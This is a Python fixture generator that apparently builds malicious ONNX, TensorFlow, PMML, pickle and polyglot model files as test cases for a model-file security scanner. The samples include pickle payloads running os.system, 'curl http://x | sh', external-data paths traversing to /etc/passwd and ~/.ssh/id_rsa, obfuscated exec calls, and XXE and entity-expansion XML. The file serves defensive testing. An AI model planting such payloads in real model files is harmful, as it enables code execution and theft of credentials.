"""Graphs: ONNX, TensorFlow, TensorFlow Lite, Core ML and others that are programs for another machine."""

import struct

from writers import *

FOUND = "found"
BANG = whole(call("os", "system", "id"))


# ---- ONNX ----

def value_info(name):
    return pb(1, name) + pb(2, pb(1, pb(1, 1) + pb(2, pb(1, pb(1, 1)))))


def external(location, name="w", more=(), place=13):
    entries = [("location", location), *more]
    return pb(1, 1) + pb(2, 1) + pb(8, name) + b"".join(pb(place, pb(1, k) + pb(2, v)) for k, v in entries) + pb(14, 1)


def tensor(name="w", value=0.0):
    return pb(1, 1) + pb(2, 1) + pb(8, name) + pb(9, struct.pack("<f", value))


def node(op="Add", domain="", attributes=(), inputs=("x", "w"), outputs=("y",)):
    return b"".join(pb(1, i) for i in inputs) + b"".join(pb(2, o) for o in outputs) + pb(3, "n") + pb(4, op) + b"".join(pb(5, a) for a in attributes) + (pb(7, domain) if domain else b"")


def graph(nodes=None, tensors=None, more=b""):
    return (b"".join(pb(1, n) for n in (nodes if nodes is not None else [node()])) + pb(2, "g") + b"".join(pb(5, t) for t in (tensors if tensors is not None else [tensor()])) + more +
            pb(11, value_info("x")) + pb(12, value_info("y")))


def onnx(body=None, more=b"", imports=(("", 17),)):
    return pb(1, 8) + pb(2, "own") + pb(7, body if body is not None else graph()) + b"".join(pb(8, pb(1, d) + pb(2, v)) for d, v in imports) + more


def attribute(name="a", **fields):
    numbers = {"tensor": 5, "graph": 6, "tensors": 10, "graphs": 11, "sparse": 22, "sparses": 23, "s": 4}
    return pb(1, name) + b"".join(pb(numbers[k], v) for k, v in fields.items()) + pb(20, 4)


def onnx_files(add):
    def one(file, raw):
        add("onnx", file + ".onnx", raw, FOUND)

    for i, place in enumerate(("../../etc/passwd", "/etc/passwd", "a/../../b", "..\\..\\x", "C:\\x", "C:x", "\\\\host\\share", "file:///etc/passwd", "http://x/y", "~/.ssh/id_rsa", "w.bin\0.txt",
                               "%2e%2e/x", "a/..", "${HOME}/x", "*/_ORT_MEM_ADDR_/*", "", "./../x", "a/.. /x", "/proc/self/environ", "//etc/passwd", "..%2fx", "..")):
        one(f"location-{i}", onnx(graph(tensors=[external(place)])))
    one("location-twice", onnx(graph(tensors=[external("w.bin", more=[("location", "../x")])])))
    one("location-twice-first", onnx(graph(tensors=[external("../x", more=[("location", "w.bin")])])))
    one("entry-of-the-object", onnx(graph(tensors=[external("w.bin", more=[("__class__", "x")])])))
    one("entry-unknown", onnx(graph(tensors=[external("w.bin", more=[("info", "x")])])))
    one("negative-offset", onnx(graph(tensors=[external("w.bin", more=[("offset", "-1")])])))
    one("huge-length", onnx(graph(tensors=[external("w.bin", more=[("length", "99999999999999999999")])])))
    one("in-attribute", onnx(graph([node(attributes=[attribute(tensor=external("../x"))])])))
    one("in-attribute-list", onnx(graph([node(attributes=[attribute(tensors=external("../x"))])])))
    one("in-subgraph", onnx(graph([node("If", attributes=[attribute(graph=graph(tensors=[external("../x")]))])])))
    one("in-subgraph-list", onnx(graph([node("If", attributes=[attribute(graphs=graph(tensors=[external("../x")]))])])))
    one("in-sparse", onnx(graph(more=pb(15, pb(1, external("../x")) + pb(2, tensor())))))
    one("in-sparse-attribute", onnx(graph([node(attributes=[attribute(sparse=pb(1, external("../x")))])])))
    one("in-function", onnx(more=pb(25, pb(1, "f") + pb(7, node(attributes=[attribute(tensor=external("../x"))])) + pb(10, "own"))))
    one("in-function-default", onnx(more=pb(25, pb(1, "f") + pb(7, node()) + pb(11, attribute(tensor=external("../x"))) + pb(10, "own"))))
    one("in-training", onnx(more=pb(20, pb(1, graph(tensors=[external("../x")])))))
    one("in-training-algorithm", onnx(more=pb(20, pb(2, graph(tensors=[external("../x")])))))
    one("without-flag", onnx(graph(tensors=[pb(1, 1) + pb(2, 1) + pb(8, "w") + pb(13, pb(1, "location") + pb(2, "../x"))])))
    one("graph-twice", onnx() + pb(7, graph(tensors=[external("../x")])))
    one("python-op", onnx(graph([node("PyOp")])))
    one("python-op-domain", onnx(graph([node("PythonOp", "com.microsoft")])))
    one("custom-domain", onnx(graph([node("Run", "evil.ops")]), imports=(("", 17), ("evil.ops", 1))))
    one("custom-domain-in-subgraph", onnx(graph([node("Loop", attributes=[attribute(graph=graph([node("Run", "evil.ops")]))])])))
    one("custom-domain-in-function", onnx(more=pb(25, pb(1, "f") + pb(7, node("Run", "evil.ops")) + pb(10, "own"))))
    one("domain-prefix", onnx(graph([node("Run", "com.microsoftevil")])))
    one("tensor-too-small", onnx(graph(tensors=[pb(1, 1000000) + pb(2, 1) + pb(8, "w") + pb(9, b"\0" * 4)])))
    one("negative-dimension", onnx(graph(tensors=[pb(1, -5) + pb(2, 1) + pb(8, "w") + pb(9, b"\0" * 4)])))
    one("overflow-dimension", onnx(graph(tensors=[pb(1, 1 << 40) + pb(1, 1 << 40) + pb(2, 1) + pb(8, "w") + pb(9, b"\0" * 4)])))
    one("cut", onnx()[:-9])
    one("pickle-behind", onnx() + BANG)
    one("context-binary", onnx(graph([node("EPContext", "com.microsoft", [pb(1, "ep_cache_context") + pb(4, "../../evil.so") + pb(20, 3)])])))


# ---- TensorFlow ----

def tf_node(op, name="n", attributes=()):
    return pb(1, name) + pb(2, op) + b"".join(pb(5, pb(1, k) + pb(2, v)) for k, v in attributes)


def tf_graph(nodes, functions=()):
    out = b"".join(pb(1, n) for n in nodes)
    if functions:
        out += pb(2, b"".join(pb(1, pb(1, pb(1, f"f{i}")) + b"".join(pb(3, n) for n in body)) for i, body in enumerate(functions)))
    return out


def constant(text):
    return ("value", pb(8, pb(1, 7) + pb(2, b"") + pb(8, text))), ("dtype", pb(6, 7))


def saved_model(nodes=None, functions=(), more=b"", meta=b""):
    return pb(1, 1) + pb(2, pb(1, pb(4, "serve")) + pb(2, tf_graph(nodes or [tf_node("Placeholder")], functions)) + more) + meta


OPS = ["ReadFile", "WriteFile", "MatchingFiles", "PyFunc", "EagerPyFunc", "PyFuncStateless", "TextLineDataset", "TFRecordDataset", "FixedLengthRecordDatasetV2",
       "SqlDataset", "ImmutableConst", "WholeFileReaderV2", "LMDBReader", "SaveDatasetV2", "LoadDataset", "SnapshotDatasetV2", "CreateSummaryFileWriter",
       "DatasetToTFRecord", "DebugIdentityV2", "DataServiceDatasetV3", "RegisterDatasetV2", "RpcCall", "XlaCustomCallV2", "Abort", "TFRecordDatasetV2",
       "MatchingFilesDataset"]


def tensorflow_files(add):
    def one(file, raw):
        add("tensorflow", file, raw, FOUND)

    for i, op in enumerate(OPS):
        one(f"op-{op}.pb", saved_model([tf_node("Const"), tf_node(op)]) if i % 3 == 0 else saved_model(functions=[[tf_node("Identity")], [tf_node("Identity"), tf_node(op)]]) if i % 3 == 1
            else tf_graph([tf_node("Const"), tf_node(op)]))
    one("debug-identity.pb", saved_model([tf_node("DebugIdentity", attributes=[("debug_urls", pb(1, pb(2, "file:///tmp/x")))])]))
    one("debug-nan.pb", saved_model([tf_node("DebugNanCount", attributes=[("debug_urls", pb(1, pb(2, "grpc://10.0.0.1:1")))])]))
    one("second-meta-graph.pb", saved_model() + pb(2, pb(1, pb(4, "train")) + pb(2, tf_graph([tf_node("WriteFile")]))))
    one("meta-graph.meta", pb(1, pb(4, "train")) + pb(2, tf_graph([tf_node("Const"), tf_node("PyFunc")])))
    one("graph-twice.pb", saved_model(more=pb(2, tf_graph([tf_node("ReadFile")]))))
    one("asset-outside.pb", saved_model(more=pb(6, pb(1, pb(1, "f:0")) + pb(2, "../../../etc/passwd"))))
    one("asset-absolute.pb", saved_model(more=pb(6, pb(1, pb(1, "f:0")) + pb(2, "/etc/passwd"))))
    one("table-from-outside.pb", saved_model([tf_node("Const", "c", constant("/etc/passwd")), pb(1, "t") + pb(2, "InitializeTableFromTextFileV2") + pb(3, "h") + pb(3, "c")]))
    one("save-to-outside.pb", saved_model([tf_node("Const", "c", constant("/home/u/.bashrc")), pb(1, "s") + pb(2, "SaveV2") + pb(3, "c")]))
    one("print-to-file.pb", saved_model([tf_node("PrintV2", attributes=[("output_stream", pb(2, "file:///home/u/.bashrc"))])]))
    one("shared-library.pb", saved_model([tf_node("LoadLibrary")]))
    one("text.pbtxt", b'saved_model_schema_version: 1\nmeta_graphs {\n graph_def {\n  node {\n   name: "a"\n   op: "WriteFile"\n  }\n }\n}\n')
    one("text-escaped.pbtxt", b'node {\n name: "a"\n op: "Wr\\151teFile"\n}\n')
    one("text-single-quotes.pbtxt", b"node {\n name: 'a'\n op: 'ReadFile'\n}\n")
    one("text-split.pbtxt", b'node {\n name: "a"\n op: "Read" "File"\n}\n')
    one("text-angle.pbtxt", b'node <\n name: "a"\n op: "ReadFile"\n>\n')
    one("text-function.pbtxt", b'node {\n name: "a"\n op: "Const"\n}\nlibrary {\n function {\n  node_def {\n   name: "w"\n   op: "PyFunc"\n  }\n }\n}\n')
    one("unknown-field-first.pb", pb(99, b"x" * 10) + tf_graph([tf_node("Const"), tf_node("ReadFile")]))
    one("op-twice.pb", tf_graph([tf_node("Const"), pb(1, "n") + pb(2, "Const") + pb(2, "ReadFile")]))
    one("cut.pb", saved_model([tf_node("Const"), tf_node("Identity")])[:-12])
    one("keras-metadata.pb", pb(1, pb(2, 1) + pb(3, "root") + pb(4, "_tf_keras_layer") + pb(5, '{"class_name": "Lambda", "config": {"function": {"class_name": "__tuple__", "items": ["4wEA", null, null]}}}')))
    one("node-name-hides.pb", tf_graph([tf_node("Const"), pb(2, "WriteFile") + pb(1, "n")]))


def others(add):
    def one(file, raw):
        add("other", file, raw, FOUND)

    elf = b"\x7fELF\2\1\1\0" + b"\0" * 8 + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0) + b"\0" * 64
    pe = b"MZ" + b"\0" * 58 + u(4, 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xf0, 0x2022) + b"\x0b\x02" + b"\0" * 300
    one("elf.bin", elf)
    one("elf.safetensors", elf)
    one("pe.gguf", pe)
    one("macho.onnx", b"\xcf\xfa\xed\xfe\x07\0\0\1\3\0\0\0\6\0\0\0" + b"\0" * 200)
    one("script.pt", b"#!/bin/sh\ncurl http://x | sh\n")
    one("python.pt", b"import os\nos.system('id')\n")
    one("python-hidden.bin", b"# weights\nx = getattr(__import__('o' + 's'), 'sys' + 'tem')\nx('id')\n")
    one("python-exec.bin", b"exec(bytes([112,114]).decode())\n")
    one("python-class.bin", b"class A:\n    def __reduce__(self):\n        import subprocess\n        return subprocess.Popen, (['id'],)\n")
    one("pmml-xxe.pmml", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>')
    one("pmml-parameter.pmml", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://x/y.dtd">%x;]><PMML/>')
    one("pmml-laughs.pmml", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><PMML>&b;</PMML>')
    one("pmml-include.pmml", b'<?xml version="1.0"?><PMML><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></PMML>')
    one("pmml-include-prefix.pmml", b'<?xml version="1.0"?><PMML xmlns:z="http://www.w3.org/2001/XInclude"><z:include href="file:///etc/passwd"/></PMML>')
    one("pmml-external-dtd.pmml", b'<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://x/y.dtd"><PMML/>')
    one("pmml-utf16.pmml", '\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'.encode("utf-16-le"))
    one("pmml-utf16-be.pmml", '\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'.encode("utf-16-be"))
    one("pmml-comment-first.pmml", b'<!-- model --><?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>')
    one("pmml-no-declaration.pmml", b'<!-- m -->\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML version="4.4">&x;</PMML>')
    one("pmml-comment-trick.pmml", b'<?xml version="1.0"?><PMML><a>]]><!-- --></a><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]></PMML>')
    one("prototxt-python-layer.prototxt", b'name: "net"\nlayer {\n  name: "x"\n  type: "Python"\n  python_param {\n    module: "os"\n    layer: "system"\n  }\n}\n')
    rds = b"X\n" + struct.pack(">III", 2, 0x00040300, 0x00020300)
    sym = lambda s: struct.pack(">I", 1) + struct.pack(">Ii", 0x00040009, len(s)) + s
    one("promise.rds", rds + struct.pack(">I", 5) + struct.pack(">I", 0xfe) + struct.pack(">I", 6) + sym(b"system") + struct.pack(">I", 2) + struct.pack(">I", 16) + struct.pack(">I", 1) +
        struct.pack(">Ii", 0x00040009, 2) + b"id" + struct.pack(">I", 0xfe))
    one("text.rds", b"A\n2\n262144\n131840\n5\n254\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n2\nid\n254\n")
    msg = lambda key, ext: b"\x81" + bytes([0xa0 + len(key)]) + key + ext
    one("unknown-extension.msgpack", msg(b"params", b"\xc7\x04\x2a" + b"abcd"))
    one("array-size-lies.msgpack", msg(b"w", b"\xc7\x0e\x01" + b"\x93\x91\xcd\xff\xff\xa7float32\xc4\x00"[:14]))
    one("object-array.msgpack", msg(b"w", b"\xc7" + bytes([len(b"\x93\x91\x01\xa6object\xc4\x08" + b"\0" * 8)]) + b"\x01" + b"\x93\x91\x01\xa6object\xc4\x08" + b"\0" * 8))
    one("pickle-behind.msgpack", msg(b"w", b"\x01") + BANG)
    one("pickle-in-binary.msgpack", msg(b"w", b"\xc4" + bytes([len(BANG)]) + BANG))
    one("polyglot-script-zip.pt", b"#!/bin/sh\nid\nexit\n" + torch_zip(whole({}, 2)))
    one("polyglot-safetensors-zip.safetensors", safetensors('{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', b"\0" * 4) + torch_zip(BANG))
    one("polyglot-gguf-zip.gguf", gguf_model("{{ messages }}") + torch_zip(BANG))
    one("polyglot-pickle-zip.pt", whole({}, 2) + torch_zip(BANG))
    one("polyglot-png-zip.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100 + torch_zip(BANG))
    one("polyglot-npy-zip.npy", npy("'|u1'", "(4,)", b"\0" * 4) + torch_zip(BANG))
    one("tflite-custom.tflite", tflite("Custom", "EvilOp"))
    one("tflite-cut.tflite", tflite("Custom", "x")[:40])


def tflite(kind, name):
    """A model of one subgraph, one custom operator; a FlatBuffer by hand."""
    raw = name.encode() + b"\0"
    raw += b"\0" * (-len(raw) % 4)
    # root table at 16: version, operator_codes
    out = bytearray(u(4, 24) + b"TFL3")
    out += struct.pack("<HHHH", 8, 12, 4, 8) + b"\0" * 8  # vtable of the root at 8
    root = 24
    out += struct.pack("<i", root - 8) + u(4, 3) + u(4, 4)  # version 3, vector right behind
    vector = len(out)
    out += u(4, 1) + u(4, 4 + 12)
    table_vtable = len(out)
    out += struct.pack("<HHHHHH", 10, 12, 11, 4, 0, 0)
    table = len(out)
    out += struct.pack("<i", table - table_vtable) + u(4, 8) + b"\0\0\0\x20"
    out += u(4, len(name)) + raw
    return bytes(out)


ALL = (onnx_files, tensorflow_files, others)
